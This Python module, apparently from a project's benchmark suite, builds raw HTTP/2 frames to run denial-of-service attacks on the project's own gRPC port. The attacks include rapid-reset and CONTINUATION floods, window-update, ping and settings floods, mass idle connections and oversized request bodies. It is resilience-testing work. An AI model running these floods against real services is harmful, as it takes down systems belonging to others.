"""Attacks on the public gRPC port, as a table like that of benchmarks.serving.attacks.

python -m benchmarks.serving.grpc_attacks URL NAME

The frames of HTTP/2 (RFC 9113) are written here, because no client of gRPC would send them.
"""

import asyncio
import ssl
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from functools import partial

from benchmarks.serving.attacks import (
    BODY_BYTES,
    MIB,
    WAIT_S_MAX,
    Attack,
    Kind,
    Statuses,
    Target,
    half_shaken,
    holding,
    main,
    pouring,
    text_of,
)
from tidemill.cluster.rpc.proto import generation_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW = 4
FRAME_BYTES = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name: str, value: str) -> bytes:
    """Return a header in HPACK, as literals of less than 127 bytes."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


HEAD = b"".join(
    field(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/tidemill.v1.Generation/GenerateStream"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)
OPENING = PREFACE + frame(SETTINGS, 0, 0)


def opened(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, HEAD)


def message(request: pb.GenerateRequest) -> bytes:
    data = request.SerializeToString()
    return b"\0" + len(data).to_bytes(4, "big") + data


class Connection:
    """Concurrent calls on one connection, with the windows that the server grants."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._initial = 65535
        self._windows = Counter[int]({0: 65535})
        self._changed = asyncio.Event()
        self._endings: dict[int, str] = {}

    async def run(self, messages: Sequence[bytes]) -> Statuses:
        """Send each message as a call; return how the calls ended."""
        self._writer.write(OPENING)
        reading = asyncio.create_task(self._read())
        streams = range(1, 2 * len(messages), 2)
        sending = [asyncio.create_task(self._send(*call)) for call in zip(streams, messages, strict=True)]
        with suppress(TimeoutError):
            async with asyncio.timeout(WAIT_S_MAX):
                while not reading.done() and len(self._endings) < len(streams):
                    self._changed.clear()
                    await self._changed.wait()
        for task in (reading, *sending):
            task.cancel()
        self._writer.transport.abort()
        return Counter(self._endings.get(stream, "cut") for stream in streams)

    async def _send(self, stream: int, data: bytes) -> None:
        self._writer.write(opened(stream))
        sent = 0
        while sent < len(data):
            room = min(self._windows[0], self._initial + self._windows[stream], FRAME_BYTES)
            if room <= 0:
                self._changed.clear()
                await self._changed.wait()
                continue
            part = data[sent : sent + room]
            sent += len(part)
            self._windows.subtract({0: len(part), stream: len(part)})
            self._writer.write(frame(DATA, END_STREAM if sent == len(data) else 0, stream, part))
            await self._writer.drain()

    async def _read(self) -> None:
        try:
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                self._take(head[3], head[4], int.from_bytes(head[5:], "big"), payload)
                self._changed.set()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            self._changed.set()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at : at + 2], "big") == INITIAL_WINDOW:
                    self._initial = int.from_bytes(payload[at + 2 : at + 6], "big")
            self._writer.write(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW:
            self._windows[stream] += int.from_bytes(payload, "big")
        elif kind == PING and not flags & ACK:
            self._writer.write(frame(PING, ACK, 0, payload))
        elif kind == DATA and payload:
            for of in (0, stream):
                self._writer.write(frame(WINDOW, 0, of, len(payload).to_bytes(4, "big")))
        elif kind == RST:
            self._endings.setdefault(stream, "reset")
        if kind in (DATA, HEADERS) and flags & END_STREAM:
            self._endings.setdefault(stream, "ended")


async def called(target: Target, requests: Sequence[pb.GenerateRequest]) -> Statuses:
    messages = [message(request) for request in requests]
    return await Connection(*await target.connect()).run(messages)


def calls(
    request: Callable[[], pb.GenerateRequest], times: int = 1
) -> Callable[[], Callable[[Target], Awaitable[Statuses]]]:
    return lambda: partial(called, requests=[request()] * times)


def biased(num_biases: int) -> pb.GenerateRequest:
    request = pb.GenerateRequest(text="a")
    for at in range(num_biases):
        request.sampling.logit_bias[at] = 1.0
    return request


def structured(num_properties: int) -> pb.GenerateRequest:
    properties = ",".join(f'"property_{at:06}":{{"type":"string"}}' for at in range(num_properties))
    outputs = pb.StructuredOutputs(json=f'{{"properties":{{{properties}}}}}')
    return pb.GenerateRequest(text="a", structured_outputs=outputs)


STREAM = message(
    pb.GenerateRequest(
        token_ids=pb.TokenIds(ids=[70] * 8),
        sampling=pb.Sampling(max_tokens=400, ignore_eos=True),
        logprobs=5,
    )
)
RESETS = OPENING + b"".join(
    opened(stream) + frame(DATA, END_STREAM, stream, STREAM) + frame(RST, 0, stream, (8).to_bytes(4, "big"))
    for stream in range(1, 2000, 2)
)
"""The attack of 2023 on servers of HTTP/2: each call is reset by the frame after it."""

WINDOWS = [INITIAL_WINDOW.to_bytes(2, "big") + num_bytes.to_bytes(4, "big") for num_bytes in (0, 0x7FFFFFFF)]
HEADLESS = OPENING + frame(HEADERS, 0, 1, HEAD)
BODIES: tuple[tuple[str, Callable[[], pb.GenerateRequest], int], ...] = (
    ("gRPC: text of 4 MiB", lambda: pb.GenerateRequest(text=text_of(BODY_BYTES)), 4),
    (
        "gRPC: 1 million tokens",
        lambda: pb.GenerateRequest(token_ids=pb.TokenIds(ids=[70] * 1_000_000)),
        4,
    ),
    (
        "gRPC: 100,000 stop strings",
        lambda: pb.GenerateRequest(text="a", sampling=pb.Sampling(stop=["abc"] * 100_000)),
        4,
    ),
    ("gRPC: 250,000 biases", lambda: biased(250_000), 4),
    ("gRPC: schema of 1.9 MB", lambda: structured(50_000), 2),
    ("gRPC: message of more than 4 MiB", lambda: pb.GenerateRequest(text=text_of(5 * MIB)), 4),
)

FLOODS: tuple[tuple[str, Callable[[], Callable[[Target], Awaitable[Statuses]]]], ...] = (
    ("gRPC: 1,500 idle connections", holding(b"", 1500)),
    ("gRPC: 1,500 connections with a call", holding(OPENING + opened(1), 1500)),
    (
        "gRPC: calls without a message",
        holding(OPENING + b"".join(opened(at) for at in range(1, 2000, 2)), 4),
    ),
    ("gRPC: 1,000 resets of streams", holding(RESETS, 1, 1.0)),
    (
        "gRPC: 40 streams that nobody reads",
        holding(OPENING + opened(1) + frame(DATA, END_STREAM, 1, STREAM), 40, 8.0),
    ),
    (
        "gRPC: headers without end",
        pouring(HEADLESS, frame(CONTINUATION, 0, 1, field("a", "b") * 2000), 50 * MIB, 8),
    ),
    (
        "gRPC: resets without end",
        pouring(
            OPENING,
            b"".join(
                opened(stream) + frame(RST, 0, stream, (8).to_bytes(4, "big"))
                for stream in range(1, 80_001, 2)
            ),
            8 * MIB,
            4,
        ),
    ),
    (
        "gRPC: window updates",
        pouring(OPENING, frame(WINDOW, 0, 0, (1).to_bytes(4, "big")) * 1024, 8 * MIB, 4),
    ),
    ("gRPC: window updates of 0", pouring(OPENING, frame(WINDOW, 0, 0, bytes(4)) * 1024, 8 * MIB, 4)),
    (
        "gRPC: windows that change",
        pouring(
            OPENING + b"".join(opened(at) for at in range(1, 200, 2)),
            b"".join(frame(SETTINGS, 0, 0, window) for window in WINDOWS) * 512,
            8 * MIB,
            4,
        ),
    ),
    ("gRPC: priorities", pouring(OPENING + opened(1), frame(PRIORITY, 0, 1, bytes(5)) * 1024, 8 * MIB, 4)),
    ("gRPC: pings", pouring(OPENING, frame(PING, 0, 0, bytes(8)) * 1024, 8 * MIB, 4)),
    ("gRPC: settings", pouring(OPENING, frame(SETTINGS, 0, 0) * 1024, 8 * MIB, 4)),
    ("gRPC: empty frames", pouring(OPENING + opened(1), frame(DATA, 0, 1) * 1024, 8 * MIB, 4)),
    ("gRPC: half a TLS handshake", lambda: partial(half_shaken, connections=1500)),
)

_BODY: Kind = "body"
GRPC_ATTACKS: dict[str, Attack] = {
    attack.name: attack
    for attack in (
        *(Attack(name, _BODY, calls(request, times)) for name, request, times in BODIES),
        *(Attack(name, "flood", build) for name, build in FLOODS),
    )
}


def alpn(context: ssl.SSLContext | None) -> None:
    """Offer HTTP/2, without which the server ends a handshake."""
    if context is not None:
        context.set_alpn_protocols(["h2"])


if __name__ == "__main__":
    main(GRPC_ATTACKS, alpn)
